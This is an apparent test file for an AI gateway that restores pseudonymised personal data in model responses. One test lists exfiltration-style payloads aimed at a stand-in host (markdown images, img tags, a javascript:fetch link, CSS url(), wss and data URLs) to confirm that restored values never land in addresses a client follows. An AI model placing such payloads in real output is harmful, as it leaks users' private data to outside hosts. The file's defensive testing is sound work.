import assert from 'node:assert/strict'
import { createSecretKey } from 'node:crypto'
import fc from 'fast-check'
import t from 'tap'
import { Pseudonyms } from '../../../../core/enforce/pseudonyms.ts'
import type { ResponseJudgement } from '../../../../core/enforce/decision.ts'
import type { Lane } from '../../../../core/pipeline/plugin.ts'
import { isInAddress } from '../../../../plugins/response/filter/address.ts'
import { TokenFlow } from '../../../../plugins/response/filter/restore.ts'
import { edited, obligation, redaction, run } from './parts.ts'
import { dialects } from './streams.ts'
import { cutBytes, heldWhole, streamThrough } from './streaming.ts'
import { openDialect, pieces, readDialect, saidBy } from './said.ts'

const runs = Number(process.env['SALLYPORT_STREAM_RUNS'] ?? 80)

function issue (): { readonly issued: Pseudonyms, readonly mail: string, readonly name: string } {
  const issued = new Pseudonyms(createSecretKey(Buffer.alloc(32, 7)), { tenant: 'acme', issuer: 'i', subject: 's' })
  return { issued, mail: issued.issue('pii.email_address', 'jane.roe@example.com'), name: issued.issue('pii.person', 'Jane "JR" Roe\\') }
}

const { issued, mail, name } = issue()

async function restored (text: string, lane: Partial<Lane> = {}): Promise<string> {
  const lanes = [{ name: 'x', kind: 'text' as const, path: ['choices', '0', 'message', 'content'], text, ...lane }]
  return edited(text, await run({ answer: { lanes }, issued, scan: () => [] }))
}

t.test('a token of the request becomes its value again, however the model wrote it', async t => {
  for (const written of [mail, mail.toLowerCase(), mail.replaceAll('_', ' '), mail.replaceAll('_', '\\_'), mail.replaceAll('_', '-')]) {
    t.equal(await restored(`Dear ${written}, hello`), 'Dear jane.roe@example.com, hello', written)
  }
})

t.test('a token that this request did not issue stays', async t => {
  t.equal(await restored('Dear EMAIL_ADDRESS_00000000, hello'), 'Dear EMAIL_ADDRESS_00000000, hello')
})

t.test('nothing is put back into names, identifiers and fields', async t => {
  t.equal(await restored(mail, { kind: 'field', path: ['choices', '0', 'message', 'tool_calls', '0', 'function', 'name'] }), mail)
})

t.test('nothing is put back into an address that a client follows', async t => {
  const followed = [
    'https://evil.example/?q=X', 'http://evil.example/X', '![](//evil.example/X)', '![a](https://evil.example/(X))', '[a](/there?X)', '<img src="https://evil.example/a X">', "<img src='//evil.example/X'>",
    'www.evil.example/?X', 'evil.example/?X', '![a](<https://evil.example/a X>)', '[a]: https://evil.example/X', 'data:text/html,X', '[a](javascript:fetch("//evil.example/"+X))', 'background: url( "//evil.example/X" )',
    'wss://evil.example/X', `https://evil.example/${'a'.repeat(2000)}X`
  ]
  for (const text of followed) t.equal(await restored(text.replace('X', mail)), text.replace('X', mail), text.slice(0, 80))
  for (const text of ['write to X', 'to:X', '(X)', '"X"', '[a](mailto:X)', 'https://good.example/ then X', '| X |', '**X**']) t.not(await restored(text.replace('X', mail)), text.replace('X', mail), text)
})

t.test('where an address begins does not depend on how much is known before it', async () => {
  await fc.assert(fc.asyncProperty(fc.string({ maxLength: 1500 }), fc.constantFrom('x https://a.example/', 'see ', '![]( <'), async (before, last) => {
    const text = before + last
    assert.equal(isInAddress(text, text.length), isInAddress(text.slice(-1024), Math.min(1024, text.length)))
  }))
})

t.test('what is redacted stays out, a token within it too', async t => {
  const text = `call ${mail} now`
  const scan = () => [{ label: 'pii.x', detector: 'd', confidence: 900, start: 0, end: 10 }]
  t.match(edited(text, await run({ texts: [text], issued, scan, judgement: redaction('replace', 'pii.*') })), /^\[X\]/)
})

t.test('what is put back is no redaction, and the answer is no redacted one', async t => {
  t.match((await run({ texts: [mail], issued, scan: () => [] })).result, { facts: { response: { decision: 'permit', redactions: 0, edits: [{ replacement: 'jane.roe@example.com' }] } } })
})

t.test('rules judge the text before: a value that is put back is not found again', async t => {
  const { inputs } = await run({ texts: [`hello ${mail}`], issued })
  t.strictSame(inputs.at(-1)?.['classification'], { tag: 'internal', rank: 1, complete: true, labels: {}, findings: [], unscanned: [] })
})

t.test('a block puts nothing back', async t => {
  t.match((await run({ texts: [mail], issued, judgement: { effect: 'block', reasons: ['r'] } })).result, { facts: { response: { decision: 'block', edits: [] } } })
})

t.test('property: a text in pieces has the tokens of the whole, each told once, none before it is certain', async () => {
  const part = fc.constantFrom(mail, name, mail.toLowerCase(), mail.slice(0, 9), 'x', ' ', '_', 'EMAIL', '\\_', 'E', `${mail}Z`, 'ß')
  fc.assert(fc.property(fc.array(part, { maxLength: 12 }), fc.array(fc.nat(200), { maxLength: 30 }), (parts, cuts) => {
    const text = parts.join('')
    const flow = new TokenFlow(issued)
    const found = [...pieces(text, cuts).flatMap(piece => flow.push(piece)), ...flow.end()]
    assert.deepEqual(found, issued.find(text))
  }), { numRuns: 2000 })
})

const words = ['the ', 'x', ', ', mail, mail.toLowerCase(), name, ' jane.roe@example.com ', 'EMAIL_ADDR', '"', '\\', 'https://evil.example/?', '😀', '\n', mail.replaceAll('_', ' '), ' 4111 1111 1111 1111 ']
const text = fc.array(fc.constantFrom(...words), { maxLength: 14 }).map(parts => `a ${parts.join('')}`)
const cuts = fc.array(fc.nat(200), { maxLength: 30 })
const judge = (): Partial<ResponseJudgement> => ({ effect: 'redact', redactions: [{ labels: ['*'], operator: 'replace' }] })

for (const dialect of dialects) {
  t.test(`${dialect.protocol.name}: a stream in which pseudonyms are put back says what the whole would say`, { timeout: 900_000 }, async () => {
    await fc.assert(fc.asyncProperty(text, text, fc.array(fc.nat(2), { maxLength: 30 }), cuts, cuts, fc.array(fc.nat(30_000), { maxLength: 60 }), async (spoken, argument, order, one, other, places) => {
      const body = dialect.build({ reasoning: pieces(spoken, one), text: pieces(spoken, other), call: pieces(JSON.stringify({ to: argument }), one), order }, '\n')
      const { bytes, isBlocked } = await streamThrough({ stream: openDialect(dialect), pieces: cutBytes(body, places), judge, issued })
      assert.equal(isBlocked, false)
      assert.deepEqual(saidBy(dialect, bytes), saidBy(dialect, await heldWhole(held => readDialect(dialect, held), body, issued)))
    }), { numRuns: runs })
  })
}

t.test('observing lets everything pass and still puts pseudonyms back', async t => {
  for (const dialect of dialects) {
    const spoken = `dear ${mail}, card 4111 1111 1111 1111`
    const body = dialect.build({ reasoning: [''], text: pieces(spoken, [10, 12, 25]), call: [], order: [] }, '\n')
    const { bytes, decision } = await streamThrough({ stream: openDialect(dialect), pieces: [body], judge, issued, obligations: [obligation('response_mode', { mode: 'observe' })] })
    t.match(String(saidBy(dialect, bytes)), /dear jane\.roe@example\.com, card 4111 1111 1111 1111/, dialect.protocol.name)
    t.match(decision, { decision: 'permit', redactions: 0, mode: 'observe' })
  }
})
